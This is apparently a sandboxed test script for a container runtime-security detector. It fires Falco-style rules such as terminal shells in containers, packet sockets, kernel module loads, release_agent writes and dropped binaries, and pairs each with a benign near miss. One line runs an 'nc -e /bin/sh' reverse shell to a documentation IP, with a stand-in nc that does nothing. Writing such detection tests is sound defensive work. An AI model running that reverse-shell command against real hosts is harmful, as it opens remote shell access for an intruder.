#!/usr/bin/env bash
# Runs inside the sandbox as pid 1 (started by unshare, so this very shell is a "Shell started
# in a container" for the bundled rules). $WORK and $PY come from scenario.sh.
set -u
bin=$WORK/bin

# Near miss for "Shell started in a container": a shell started by a shell.
bash -c 'sh -c "exit 0"; exit 0'

# Package manager run in a container (bundled).
dpkg --version > /dev/null

# Terminal shell in container (Falco): a shell with a terminal (script gives it a pty) started
# by the runtime (a bash named runc). script's own sh and the shell under runc are also shells
# started by non-shells (bundled).
script -qec "$bin/runc -c 'bash -c \"exit 0\"; exit 0'" /dev/null > /dev/null
# Near miss: the same without a terminal.
"$bin/runc" -c 'bash -c "exit 0"; exit 0'

# Netcat Remote Code Execution in Container (Falco): nc -e (a stand-in nc that does nothing).
"$bin/nc" -e /bin/sh 203.0.113.7 4444
# Near miss: nc without -e/-c.
"$bin/nc" -z 203.0.113.7 4444

# Packet socket created in container (Falco).
"$PY" -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'
# Near miss: an ordinary TCP socket.
"$PY" -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'

# Redirect STDOUT/STDIN to Network Connection in Container (Falco): stdout replaced by a TCP
# socket (then put back).
"$PY" - <<'PY'
import os, socket
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen(1)
c = socket.create_connection(l.getsockname())
saved = os.dup(1)
os.dup2(c.fileno(), 1)
os.dup2(saved, 1)
PY
# Near miss: stdout replaced by a pipe (every shell pipeline does this).
echo hello | cat > /dev/null

# Linux Kernel Module Injection Detected (Falco) / Kernel module loaded (bundled): a module
# load attempt from an invalid fd (nothing is loaded).
"$PY" -c 'import ctypes; ctypes.CDLL(None).syscall(313, -1, b"", 0)'

# Detect release_agent File Container Escapes (Falco): a file named release_agent opened for
# writing by root.
mkdir -p "$WORK/cg"
: > "$WORK/cg/release_agent"
# Near miss: reading it.
cat "$WORK/cg/release_agent" > /dev/null

# Drop and execute new binary in container (Falco): a program copied into the upper layer of
# an overlay mount and run; the near miss runs one from the lower layer.
ov=$WORK/ov
mkdir -p "$ov/lower" "$ov/upper" "$ov/work" "$ov/merged"
cp /bin/true "$ov/lower/image-true"
mount -t overlay overlay -o "lowerdir=$ov/lower,upperdir=$ov/upper,workdir=$ov/work" "$ov/merged"
cp /bin/true "$ov/merged/dropped-true"
"$ov/merged/dropped-true"
"$ov/merged/image-true"
umount "$ov/merged"
